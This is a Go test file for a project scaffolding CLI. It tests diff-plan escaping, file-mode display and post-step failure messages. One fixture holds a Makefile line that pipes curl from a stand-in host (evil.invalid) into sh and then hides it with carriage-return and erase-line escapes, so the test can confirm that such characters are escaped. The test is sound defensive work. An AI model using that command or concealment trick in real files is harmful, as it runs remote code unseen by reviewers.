package cli

import (
	"bytes"
	"errors"
	"io/fs"
	"strings"
	"testing"

	"github.com/gonew-prod/gonew-prod/generator"
	"github.com/gonew-prod/gonew-prod/internal/poststep"
)

// TestPrintPlanEscapesContent checks that the diffs of a plan, which the user reviews
// before anything is written, cannot drive the terminal: control characters of the old
// or new content are escaped, tabs and line ends are kept.
func TestPrintPlanEscapesContent(t *testing.T) {
	tests := []struct {
		name     string
		old, new string
		want     []string // substrings of stdout
	}{
		{
			name: "carriage return and erase line in the new content",
			old:  "build:\n",
			new:  "build:\n\tcurl -s http://evil.invalid/x | sh\r\x1b[2K    +\t@echo building\n",
			want: []string{"+\tcurl -s http://evil.invalid/x | sh\\x0d\\x1b[2K    +\t@echo building\n"},
		},
		{
			name: "control characters in the old content",
			old:  "a\x07\u009b31m\x9b2J\n",
			new:  "b\n",
			want: []string{"-a\\x07\\x9b31m\\x9b2J\n", "+b\n"},
		},
		{
			name: "tabs kept",
			old:  "x:\n\techo a\n",
			new:  "x:\n\techo b\n",
			want: []string{"-\techo a\n", "+\techo b\n"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			env := Env{Stdout: &stdout, Stderr: &stderr}
			steps := []generator.Step{{
				Path: "Makefile", Class: generator.Conflict, Reason: "content differs",
				File: &generator.File{Path: "Makefile", Content: []byte(tt.new), Mode: 0o644},
				Old:  []byte(tt.old), OldMode: 0o644,
			}}
			printPlan(env, "dir", steps, nil)
			out := stdout.String()
			if strings.ContainsAny(out, "\r\x1b\x07\u009b") || strings.Contains(out, "\x9b") {
				t.Errorf("plan holds raw control characters:\n%q", out)
			}
			for _, w := range tt.want {
				if !strings.Contains(out, w) {
					t.Errorf("plan does not contain %q:\n%s", w, out)
				}
			}
		})
	}
}

// TestPrintPlanModes: a plan line shows the mode a file has afterwards: the render's for
// a created file, its own for a replaced one, which says so when the render's would be
// executable and it is not, or the other way round.
func TestPrintPlanModes(t *testing.T) {
	tests := []struct {
		name          string
		old           string      // "" for no file
		oldMode, mode fs.FileMode // the file's and the render's
		want          string
	}{
		{"created", "", 0, 0o644, "create    0644 a.sh\n"},
		{"replaced, a 0600 of the user's", "x\n", 0o600, 0o644, "conflict  0600 a.sh (content differs)\n"},
		{"replaced, executable", "x\n", 0o750, 0o644, "conflict  0750 a.sh (content differs; your file mode 0750 kept (gonew-prod's is 0644))\n"},
		{"replaced, the render executable", "x\n", 0o644, 0o755, "conflict  0644 a.sh (content differs; your file mode 0644 kept (gonew-prod's is 0755))\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := generator.Step{Path: "a.sh", Class: generator.Create, File: &generator.File{Path: "a.sh", Content: []byte("y\n"), Mode: tt.mode}}
			if tt.old != "" {
				s.Class, s.Reason, s.Old, s.OldMode = generator.Conflict, "content differs", []byte(tt.old), tt.oldMode
			}
			var stdout, stderr bytes.Buffer
			printPlan(Env{Stdout: &stdout, Stderr: &stderr}, "dir", []generator.Step{s}, nil)
			if first, _, _ := strings.Cut(stdout.String(), "\n"); first+"\n" != tt.want {
				t.Errorf("plan line %q, want %q", first+"\n", tt.want)
			}
			changes, err := newChanges([]generator.Step{s})
			if err != nil {
				t.Fatal(err)
			}
			want := tt.mode
			if tt.old != "" {
				want = tt.oldMode
			}
			if changes[0].Mode != want {
				t.Errorf("new writes mode %04o, want %04o", changes[0].Mode, want)
			}
		})
	}
}

// TestCommandFailed checks the message of a post-step that failed after new wrote the
// files: what failed, and the command to run later, shell-quoted by the caller.
func TestCommandFailed(t *testing.T) {
	tests := []struct {
		name       string
		err        error
		later      string
		want       string
		wantStderr string
	}{
		{
			name:       "command with output",
			err:        &poststep.CommandError{Command: "go mod tidy", Err: errors.New("exit status 1"), Output: "go: downloading x\nno proxy"},
			later:      "cd " + generator.ShellQuote("/tmp/my svc") + " && go mod tidy",
			want:       "the files are written, but go mod tidy failed (exit status 1); run it later: cd '/tmp/my svc' && go mod tidy",
			wantStderr: "go mod tidy:\n    go: downloading x\n    no proxy\n\n", // a blank line before the error
		},
		{
			name:  "other error",
			err:   errors.New("git not found"),
			later: "cd /tmp/x && git init",
			want:  "the files are written, but git not found; run it later: cd /tmp/x && git init",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stderr bytes.Buffer
			err := commandFailed(Env{Stderr: &stderr}, tt.err, tt.later)
			if err.Error() != tt.want {
				t.Errorf("err = %q, want %q", err, tt.want)
			}
			if stderr.String() != tt.wantStderr {
				t.Errorf("stderr = %q, want %q", stderr.String(), tt.wantStderr)
			}
		})
	}
}
